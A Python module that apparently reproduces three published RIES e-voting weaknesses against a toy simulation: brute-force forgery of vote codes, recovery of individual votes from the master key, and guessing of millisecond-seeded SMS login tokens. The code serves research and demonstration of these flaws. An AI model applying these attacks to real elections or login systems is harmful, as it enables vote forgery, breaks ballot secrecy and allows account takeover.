"""Executable versions of three published RIES weaknesses.

* forge_vote_code: exhaustive voter-key search until a computed code matches
  any valid code in the pre-election reference table.
* registry_attack: with the master key, derive every voter key and match the
  published tables to learn eligibility, turnout and vote.
* sms_token_attack: SMS login tokens seeded with the send time in
  milliseconds are recovered by scanning the plausible send-time window.
"""

from __future__ import annotations

import hashlib
import math
import time
from collections import Counter
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from typing import Callable, Iterable, Mapping, Sequence

import numpy as np

from .cipher import TOY_WIDTHS, LegacyCipher, legacy_available, toy_cbc_mac_many
from .scheme import (
    DEFAULT_BIRTHYEARS,
    RiesElection,
    RiesParams,
    VoteCode,
    code_hash,
    derive_voter_key,
    make_vote_code,
    mdc,
    vote_message,
)

CHUNK = 1 << 14

# Historical estimates for searching 2**36 DES keys.
HISTORICAL_2008_PC_SECONDS = 19 * 3600
HISTORICAL_DEDICATED_HW_SECONDS = 4


@dataclass(frozen=True)
class ForgeResult:
    found: bool
    key: int | None
    code: VoteCode | None
    pseudo_id: str | None
    trials: int
    elapsed: float
    key_bits: int
    budget_exhausted: bool

    @property
    def throughput(self) -> float:
        return self.trials / self.elapsed if self.elapsed > 0 else float("inf")

    @property
    def coverage(self) -> float:
        return self.trials / (1 << self.key_bits)

    def extrapolate(self, trials: float = 2.0**36) -> dict:
        seconds = trials / self.throughput
        return {
            "trials": trials,
            "log2_trials": math.log2(trials),
            "seconds": seconds,
            "hours": seconds / 3600,
            "ratio_to_2008_pc": seconds / HISTORICAL_2008_PC_SECONDS,
            "ratio_to_dedicated_hw": seconds / HISTORICAL_DEDICATED_HW_SECONDS,
        }


def expected_forgery_trials(key_bits: int, registered_codes: int) -> float:
    """Expected keys to try before one of `registered_codes` targets is hit."""
    return 2.0**key_bits / (registered_codes + 1)


def _scan(args) -> tuple[int | None, int | None, bytes | None]:
    """Scan keys [lo, hi); return (offset of first hit, key, rnpid)."""
    lo, hi, message, targets = args
    for start in range(lo, hi, CHUNK):
        stop = min(start + CHUNK, hi)
        macs = toy_cbc_mac_many(np.arange(start, stop, dtype=np.uint64), message).tolist()
        for i, m in enumerate(macs):
            rnpid = mdc(m.to_bytes(8, "big"))
            if hashlib.sha256(rnpid).hexdigest() in targets:
                return start + i - lo, start + i, rnpid
    return None, None, None


def forge_vote_code(
    election_id: str,
    candidates: Sequence[str],
    reference: Iterable[tuple[str, str]],
    key_bits: int,
    choice: str | None = None,
    birthyear: int = 1970,
    budget: int | None = None,
    workers: int = 1,
) -> ForgeResult:
    """Search voter keys 0, 1, ... for one whose code is in the reference table.

    Uses only public data: the election id, the candidate list and the table
    of hashed valid codes. The attacker fixes one message (choice, birth
    year); a hit is a key belonging to any registered voter of that birth
    year. One trial is one MAC evaluation.
    """
    if key_bits not in TOY_WIDTHS:
        raise ValueError("exhaustive search is only run at toy widths 16..28")
    choice = choice if choice is not None else candidates[0]
    if choice not in candidates:
        raise ValueError(f"unknown choice {choice!r}")
    index = {h: pid for pid, h in reference}
    targets = frozenset(index)
    message = vote_message(choice, election_id, birthyear)
    limit = 1 << key_bits if budget is None else min(budget, 1 << key_bits)

    t0 = time.perf_counter()
    if workers <= 1:
        offset, key, rnpid = _scan((0, limit, message, targets))
    else:
        step = math.ceil(limit / workers)
        parts = [(lo, min(lo + step, limit), message, targets) for lo in range(0, limit, step)]
        with ProcessPoolExecutor(workers) as pool:
            hits = list(pool.map(_scan, parts))
        # minimum-index hit keeps the answer independent of the partition
        offset = key = rnpid = None
        for (lo, *_), (off, k, r) in zip(parts, hits):
            if off is not None:
                offset, key, rnpid = lo + off, k, r
                break
    elapsed = time.perf_counter() - t0

    if key is None:
        return ForgeResult(False, None, None, None, limit, elapsed, key_bits, limit < (1 << key_bits))
    code = VoteCode(rnpid, choice, election_id, birthyear)
    return ForgeResult(True, key, code, index[code_hash(rnpid)], offset + 1, elapsed, key_bits, False)


def attacker_birthyear(election: RiesElection) -> int:
    """Largest birth cohort; an attacker with the municipal register picks this."""
    return Counter(v.birthyear for v in election.voters).most_common(1)[0][0]


def benchmark_des(seconds: float = 0.5) -> float | None:
    """Real single-DES CBC-MAC key trials per second, or None without DES."""
    if not legacy_available():
        return None
    cipher = LegacyCipher()
    message = vote_message("A", "bench", 1970)
    n, t0 = 0, time.perf_counter()
    while time.perf_counter() - t0 < seconds:
        cipher.mac(n, message)
        n += 1
    return n / (time.perf_counter() - t0)


@dataclass(frozen=True)
class RegistryFinding:
    vnid: str
    eligible: bool
    voted: bool
    choice: str | None
    birthyear: int | None
    pseudo_id: str | None

    @property
    def status(self) -> str:
        if not self.eligible:
            return "not eligible"
        if not self.voted:
            return "eligible, did not vote"
        return f"voted for {self.choice}"


def registry_attack(
    params: RiesParams,
    vnids: Iterable[str],
    reference: Iterable[tuple[str, str]],
    published: Iterable[tuple[str, str]],
    birthyears: Sequence[int] = DEFAULT_BIRTHYEARS,
) -> list[RegistryFinding]:
    """Derive each voter key from the master key and look its codes up."""
    ref = {h: pid for pid, h in reference}
    pub = {bytes.fromhex(code): pid for pid, code in published}
    cipher = params.cipher
    findings = []
    for vnid in vnids:
        kp = derive_voter_key(params, vnid)
        found = RegistryFinding(vnid, False, False, None, None, None)
        for year in birthyears:
            codes = [make_vote_code(params, kp, c, year, cipher) for c in params.candidates]
            hits = [c for c in codes if code_hash(c.rnpid) in ref]
            if not hits:
                continue
            voted = [c for c in codes if c.rnpid in pub]
            found = RegistryFinding(
                vnid,
                True,
                bool(voted),
                voted[0].choice if voted else None,
                year,
                ref[code_hash(hits[0].rnpid)],
            )
            break
        findings.append(found)
    return findings


def score_registry_attack(findings: Sequence[RegistryFinding], election: RiesElection) -> dict:
    """Compare findings with the simulation's ground truth."""
    truth = election.truth()
    errors = []
    for f in findings:
        t = truth.get(f.vnid)
        if t is None:
            if f.eligible:
                errors.append(f"{f.vnid}: attributed but not registered")
            continue
        if not f.eligible:
            errors.append(f"{f.vnid}: registered voter not found")
        elif f.voted != (t["vote"] is not None) or f.choice != t["vote"]:
            errors.append(f"{f.vnid}: recovered {f.choice!r}, truth {t['vote']!r}")
        elif f.pseudo_id != t["pseudo_id"] or f.birthyear != t["birthyear"]:
            errors.append(f"{f.vnid}: wrong pseudo-identity or birth year")
    cast = sum(1 for t in truth.values() if t["vote"] is not None)
    attributed = sum(1 for f in findings if f.voted and truth.get(f.vnid, {}).get("vote") == f.choice)
    return {"errors": errors, "cast": cast, "attributed": attributed}


# -- SMS tokens ------------------------------------------------------------------

_LCG_MULT = 0x5DEECE66D
_LCG_MASK = (1 << 48) - 1


class MillisecondSeededTokens:
    """A java.util.Random-style LCG seeded with the send time in milliseconds."""

    def __init__(self, seed_ms: int) -> None:
        self._seed = (seed_ms ^ _LCG_MULT) & _LCG_MASK

    def _next(self, bits: int) -> int:
        self._seed = (self._seed * _LCG_MULT + 0xB) & _LCG_MASK
        return self._seed >> (48 - bits)

    def next_int(self, bound: int) -> int:
        while True:
            bits = self._next(31)
            val = bits % bound
            if bits - val + (bound - 1) < (1 << 31):
                return val


def sms_token(send_time_ms: int, digits: int = 6) -> str:
    return str(MillisecondSeededTokens(send_time_ms).next_int(10**digits)).zfill(digits)


class SmsLoginServer:
    """Token check endpoint with no attempt limit."""

    def __init__(self, send_time_ms: int, digits: int = 6) -> None:
        self._token = sms_token(send_time_ms, digits)
        self.attempts = 0

    def check(self, token: str) -> bool:
        self.attempts += 1
        return token == self._token


@dataclass(frozen=True)
class SmsAttackResult:
    hit: bool
    guesses: int
    seed_ms: int | None
    window: tuple[int, int]


def sms_token_attack(window: tuple[int, int], oracle: Callable[[str], bool], digits: int = 6) -> SmsAttackResult:
    """Try the token for every millisecond in [lo, hi], in order."""
    lo, hi = window
    guesses = 0
    for t in range(lo, hi + 1):
        guesses += 1
        if oracle(sms_token(t, digits)):
            return SmsAttackResult(True, guesses, t, window)
    return SmsAttackResult(False, guesses, None, window)
